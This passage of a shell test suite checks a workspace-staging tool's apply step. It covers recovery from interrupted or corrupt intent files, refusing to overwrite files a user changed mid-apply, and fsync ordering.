"$P" apply --stage "$S" >/dev/null 2>"$T/li.err"; rc=$?
check "after a lost intent rename, apply removes the temp files it names and applies" \
    sh -c "[ $rc -eq 0 ] && [ -e '$S/applied' ] && ! find '$W' -name '.pvisor-apply-*' | grep -q . && \
           ! ls -a '$S' | grep -q '^\.apply-intent\.'"
rm -rf "$W" "$S"; cp -a "$T/ws7.tmpl" "$W"; "$P" fork --stage "$T/st7.tmpl" "$S" >/dev/null
lost_intent "$S" "$W"
"$P" drop --stage "$S" >/dev/null 2>&1; rc=$?
check "drop removes the temp files of a lost intent too" sh -c "[ $rc -eq 0 ] && ! find '$W' -name '.pvisor-apply-*' | grep -q ."

# A power loss before the intent's first flush can leave it cut short
# (or empty); nothing in the workspace has a name yet then (every name
# waits for that flush), so the next apply discards it and starts afresh.
# A dry run leaves it alone.
W=$T/ws7s S=$T/st7s
mkdir -p "$W"; i=0; while [ $i -lt 20 ]; do echo "old $i" > "$W/f$i"; i=$((i+1)); done
stage_run "$W" "$S" 'for f in f*; do echo new >> $f; done; echo n > added; rm f3'
cp -a "$W" "$T/ws7s.tmpl"; "$P" fork --stage "$S" "$T/st7s.tmpl" >/dev/null
manifest "$W" > "$T/ws7s.before"
printf '{"format":1,"apply_id":"0123456789abcdef","subset":false,"entries":[{"path":"f1","ol' > "$S/apply-intent"
"$P" apply --stage "$S" --dry-run >/dev/null 2>&1; rc=$?
manifest "$W" > "$T/ws7s.dry"
check "a dry run over a cut-short intent writes nothing and keeps it" \
    sh -c "[ $rc -eq 0 ] && [ -s '$S/apply-intent' ] && cmp -s '$T/ws7s.dry' '$T/ws7s.before'"
"$P" apply --stage "$S" >/dev/null 2>"$T/cut.err"; rc=$?
check "a cut-short intent is discarded and the apply runs afresh" \
    sh -c "[ $rc -eq 0 ] && [ -e '$S/applied' ] && [ ! -e '$S/apply-intent' ] && [ \"\$(cat '$W/f1')\" = \"\$(printf 'old 1\nnew')\" ] && \
           [ ! -e '$W/f3' ] && [ \"\$(cat '$W/added')\" = n ]"
rm -rf "$W" "$S"; cp -a "$T/ws7s.tmpl" "$W"; "$P" fork --stage "$T/st7s.tmpl" "$S" >/dev/null
: > "$S/apply-intent"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
check "an empty intent likewise" sh -c "[ $rc -eq 0 ] && [ -e '$S/applied' ] && [ \"\$(cat '$W/added')\" = n ]"

# Only what cannot be a complete intent is taken for a cut-short one: a
# file with a NUL byte (blocks that never reached the disk) is discarded,
# a complete document that is not JSON is refused.
rm -rf "$W" "$S"; cp -a "$T/ws7s.tmpl" "$W"; "$P" fork --stage "$T/st7s.tmpl" "$S" >/dev/null
head -c 300 /dev/zero > "$S/apply-intent"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
check "an intent of zeros is discarded" sh -c "[ $rc -eq 0 ] && [ -e '$S/applied' ] && [ \"\$(cat '$W/added')\" = n ]"
rm -rf "$W" "$S"; cp -a "$T/ws7s.tmpl" "$W"; "$P" fork --stage "$T/st7s.tmpl" "$S" >/dev/null
printf 'not json at all}\n' > "$S/apply-intent"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
manifest "$W" > "$T/ws7s.bad"
check "a complete intent that is not JSON is refused, not discarded" \
    sh -c "[ $rc -eq 1 ] && [ -s '$S/apply-intent' ] && cmp -s '$T/ws7s.bad' '$T/ws7s.before'"

# Special files keep their whole mode through fork (a checkpoint copy)
# and apply: the umask took bits away before.  A hard-linked file whose
# other name the apply deletes is not mistaken for a user's edit.
W2=$T/ws7m S2=$T/st7m
mkdir -p "$W2"; echo x > "$W2/h1"; ln "$W2/h1" "$W2/h2"
stage_run "$W2" "$S2" 'mkfifo ff && chmod 1777 ff && rm h2 && echo y > h1' >/dev/null 2>&1
"$P" fork --stage "$S2" "$S2.f" >/dev/null
"$P" apply --stage "$S2" >/dev/null 2>"$T/m7.err"; rc=$?
eq "$rc $(stat -c %a "$S2.f/upper/ff") $(stat -c %a "$W2/ff") $(cat "$W2/h1") $(test -e "$W2/h2" && echo h2-left || echo h2-gone)" "0 1777 1777 y h2-gone" \
    "a fifo keeps mode 1777 through fork and apply; deleting one name of a hard link does not stop apply"
# A fork killed while it copies leaves its directory with 'lock' and part
# of 'upper', without 'version' (written last).  The retry said only
# "exists and is not empty" (and drop "not a pvisor stage directory"):
# now it says what the directory holds and what to do.
mkdir -p "$S2.cut/upper/d"; : > "$S2.cut/lock"; echo part > "$S2.cut/upper/d/f"
"$P" fork --stage "$S2.f" "$S2.cut" >/dev/null 2>"$T/cut.err"; rc=$?
eq "$rc:$(grep -c "refused: $S2.cut holds a fork that was cut short .*Remove it (rm -rf '$S2.cut') and fork again" "$T/cut.err")" "1:1" \
    "fork into the directory of a fork cut short: refused, saying what it is and what to do"
rm -rf "$S2.cut"; mkdir -p "$S2.cut"; echo mine > "$S2.cut/notes"
"$P" fork --stage "$S2.f" "$S2.cut" >/dev/null 2>"$T/cut.err"; rc=$?
eq "$rc:$(cat "$T/cut.err")" "1:pvisor fork: refused: $S2.cut exists and is not an empty directory" \
    "fork into another non-empty directory: the plain refusal"

# A stage whose upper/ is gone (or whose lock file is) is refused cleanly
# (these refusals once read an uninitialised context and crashed)
rm -rf "$W" "$S"; cp -a "$T/ws7s.tmpl" "$W"; "$P" fork --stage "$T/st7s.tmpl" "$S" >/dev/null
rm -rf "$S/upper"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc" 1 "apply of a stage without upper/ exits 1 (no crash)"

# A file the user creates where the stage adds one, while apply runs, is
# never replaced: apply stops, and the resume reports it.
rm -rf "$W" "$S"; cp -a "$T/ws7s.tmpl" "$W"; "$P" fork --stage "$T/st7s.tmpl" "$S" >/dev/null
PVISOR_TEST_APPLY_DELAY_US=300000 "$P" apply --stage "$S" >/dev/null 2>"$T/race.err" &
ap=$!
wait_for "$S/apply-intent"; echo "USER DATA" > "$W/added" # past the conflict check, before the rename
wait $ap; rc=$?
eq "$rc $(cat "$W/added")" "1 USER DATA" "apply stops rather than replace a file the user created meanwhile"
"$P" apply --stage "$S" >/dev/null 2>"$T/race2.err"; rc=$?
check "the resume reports it and keeps the user's file" \
    sh -c "[ $rc -eq 1 ] && grep -q 'added' '$T/race2.err' && [ \"\$(cat '$W/added')\" = 'USER DATA' ]"

# The same for a write into a hard-linked file (pnpm's node_modules, git
# worktrees, cp -al trees): its ctime is no witness (this apply's
# replacement of another of its names moves it), so the re-check before the
# rename compares its mtime and size; it used to compare nothing, and the
# user's edit, made through either name after the conflict check, was
# replaced in both by the stage's content.
W=$T/ws7h S=$T/st7h
mkdir -p "$W"
i=0; while [ $i -lt 8 ]; do echo "old $i" > "$W/a$i"; i=$((i + 1)); done
echo "user v1" > "$W/h"; ln "$W/h" "$W/h2"
stage_run "$W" "$S" 'for f in a*; do echo new >> $f; done; echo agent > h' >/dev/null
PVISOR_TEST_APPLY_DELAY_US=200000 "$P" apply --stage "$S" >/dev/null 2>"$T/hl.err" &
ap=$!
wait_for "$S/apply-intent"; echo "USER EDIT" >> "$W/h2" # in place, past the conflict check
wait $ap; rc=$?
eq "$rc $(tail -n 1 "$W/h") $(tail -n 1 "$W/h2")" "1 USER EDIT USER EDIT" \
    "apply stops rather than replace a hard-linked file the user wrote into meanwhile"
"$P" apply --stage "$S" >/dev/null 2>"$T/hl2.err"; rc=$?
check "the resume reports it and keeps the user's edit" \
    sh -c "[ $rc -eq 1 ] && grep -q '^  h:' '$T/hl2.err' && [ \"\$(cat '$W/h')\" = 'user v1
USER EDIT' ]"

# The same for a directory whose mode (and user xattrs) the stage changes,
# changed by the user after the conflict check: apply gave every directory
# the stage's mode and xattrs at its end, re-checking nothing, so a
# directory the user made private (0700) meanwhile was opened again (0705)
# and apply reported success
W=$T/ws7dm S=$T/st7dm
mkdir -p "$W/dm"; chmod 0750 "$W/dm"
i=0; while [ $i -lt 6 ]; do echo "old $i" > "$W/a$i"; i=$((i + 1)); done
stage_run "$W" "$S" 'for f in a*; do echo new >> $f; done; chmod 0705 dm' >/dev/null
PVISOR_TEST_APPLY_DELAY_US=200000 "$P" apply --stage "$S" >/dev/null 2>"$T/dmr.err" &
ap=$!
wait_for "$S/apply-intent"; chmod 0700 "$W/dm" # past the conflict check
wait $ap; rc=$?
eq "$rc $(stat -c %a "$W/dm")" "1 700" "apply stops rather than give the stage's mode to a directory the user chmod'ed meanwhile"
"$P" apply --stage "$S" >/dev/null 2>"$T/dmr2.err"; rc=$?
eq "$rc:$(grep -c '^  dm:' "$T/dmr2.err"):$(stat -c %a "$W/dm")" "1:1:700" "  the resume names it, the user's mode kept"
chmod 0750 "$W/dm"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc $(stat -c %a "$W/dm") $(tail -n 1 "$W/a5")" "0 705 new" "  its old mode back, the resume completes"
if $have_xattr && setfattr -n user.t -v 1 "$T" 2>/dev/null; then
    rm -rf "$W" "$S"; mkdir -p "$W/dm"
    i=0; while [ $i -lt 6 ]; do echo "old $i" > "$W/a$i"; i=$((i + 1)); done
    setfattr -n user.tag -v a "$W/dm"
    stage_run "$W" "$S" 'for f in a*; do echo new >> $f; done; setfattr -n user.tag -v agent dm' >/dev/null
    PVISOR_TEST_APPLY_DELAY_US=200000 "$P" apply --stage "$S" >/dev/null 2>&1 &
    ap=$!
    wait_for "$S/apply-intent"; setfattr -n user.tag -v user "$W/dm"
    wait $ap; rc=$?
    eq "$rc $(getfattr --only-values -n user.tag "$W/dm")" "1 user" \
        "apply stops rather than write the stage's xattrs over a directory's the user set meanwhile"
fi
W=$T/ws7s S=$T/st7s

# The marker's rename is flushed before apply reports success.
if command -v strace >/dev/null; then
    rm -rf "$W" "$S"; cp -a "$T/ws7s.tmpl" "$W"; "$P" fork --stage "$T/st7s.tmpl" "$S" >/dev/null
    no_lsan strace -e trace=renameat,renameat2,fsync,syncfs -o "$T/mark.strace" "$P" apply --stage "$S" >/dev/null 2>&1
    eq "$(grep -v '^+++' "$T/mark.strace" | tail -2 | sed 's/ *= 0$//; s/(.*"apply-intent".*"applied")/(intent->applied)/; s/([0-9]*)/(fd)/')" \
        "renameat(intent->applied)
fsync(fd)" "the marker's rename is the last change, then fsynced"
fi

# kill -9 during a small (O_TMPFILE) apply, paced: every file old or new
# meanwhile, no name left behind, and the next apply completes
(cd "$T/ws7s.tmpl" && find . -type f -exec sha256sum {} + | awk '{print $2, $1}' | sort) > "$T/old7s.sums"
(cd "$T/st7s.tmpl/upper" && find . -type f -exec sha256sum {} + | awk '{print $2, $1}' | sort) > "$T/new7s.sums"
crash_ok=0 crash_total=0
for round in 1 2 3 4 5; do
    kill_apply "$T/ws7s.tmpl" "$T/st7s.tmpl" "$T/old7s.sums" "$T/new7s.sums" "0.$(( round * 9 ))" PVISOR_TEST_APPLY_DELAY_US=20000
    crash_total=$((crash_total + 1))
    resume_apply "$T/r7s.err"
    if [ -z "$bad" ] && [ $rc -eq 0 ] && [ -e "$S/applied" ] && ! find "$W" -name '.pvisor-apply-*' | grep -q . && \
       [ "$(cat "$W/f1")" = "$(printf 'old 1\nnew')" ] && [ ! -e "$W/f3" ]; then
        crash_ok=$((crash_ok + 1))
    else
        diag "small round $round: bad=[$bad] rc=$rc $(cat "$T/r7s.err")"
    fi
done
eq "$crash_ok" "$crash_total" "kill -9 during a small (O_TMPFILE) apply, then apply: old or new meanwhile, exact after ($crash_total rounds)"
W=$T/ws7 S=$T/st7

# an interrupted apply resumes paths and symlink targets that are not UTF-8
# (the intent names them in hex, as the journal does)
W=$T/ws7n S=$T/st7n
mkdir -p "$W"; printf old > "$W/$(printf 'bad\377name')"; printf old > "$W/good"; ln -s "$(printf 'tgt\376')" "$W/lk"
stage_run "$W" "$S" 'printf new > "$(printf "bad\377name")"; printf new > good; rm lk; ln -s "$(printf "new\375")" lk'
PVISOR_TEST_APPLY_DELAY_US=200000 "$P" apply --stage "$S" >/dev/null 2>&1 &
ap=$!; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
check "the intent names every path, also those that are not UTF-8" \
    sh -c "[ ! -e '$S/apply-intent' ] || [ \"\$(jq '.entries | length' '$S/apply-intent')\" = 3 ]"
"$P" apply --stage "$S" >/dev/null 2>"$T/r7n.err"; rc=$?
check "the resume completes them" sh -c "[ $rc -eq 0 ] && [ \"\$(cat '$W/$(printf 'bad\377name')')\" = new ] && \
    [ \"\$(readlink '$W/lk')\" = '$(printf 'new\375')' ] && ! find '$W' -name '.pvisor-apply-*' | grep -q ."
W=$T/ws7 S=$T/st7

# progress line on a terminal (stderr only) for large applies
if command -v script >/dev/null; then
    rm -rf "$W" "$S"; cp -a "$T/ws7.tmpl" "$W"; "$P" fork --stage "$T/st7.tmpl" "$S" >/dev/null
    script -qec "'$P' apply --stage '$S' 2>&1 >/dev/null" /dev/null </dev/null | tr -d '\r' > "$T/prog.txt"
    check "a large apply on a terminal shows a progress line" grep -q 'operations' "$T/prog.txt"
    rm -rf "$W" "$S"; cp -a "$T/ws7.tmpl" "$W"; "$P" fork --stage "$T/st7.tmpl" "$S" >/dev/null
    "$P" apply --stage "$S" >/dev/null 2>"$T/prog2.txt"
    check "no progress line when stderr is not a terminal" sh -c "! grep -q 'operations' '$T/prog2.txt'"
else
    skip "progress line on a terminal" "script(1) missing"
fi
